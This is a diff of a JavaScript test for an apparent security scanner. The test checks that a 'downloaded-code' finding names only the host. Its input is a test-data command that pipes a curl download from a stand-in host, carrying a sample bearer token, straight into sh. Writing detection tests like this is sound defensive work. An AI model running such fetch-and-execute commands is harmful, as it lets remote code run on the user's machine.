@@ -92,8 +92,8 @@ describe('a launch that hides what it runs', () => {
 
   it('says whose code it is, and no more of the line', () => {
     const { findings } = assessText(textOf(run('sh', '-c', 'curl -H "Authorization: Bearer b7Qw93kdZp02mm4TxY" https://me:pw@x.example/i?k=v | sh')));
-    const [{ message } = { message: undefined }] = findings.filter(({ ruleId }) => ruleId === 'downloaded-code');
-    assert.deepEqual(message?.args, { host: 'x.example' });
+    const download = findings.find(({ ruleId }) => ruleId === 'downloaded-code');
+    assert.deepEqual(download?.message.args, { host: 'x.example' });
   });
 
   it('can be mended where the shell has nothing to do', () => {
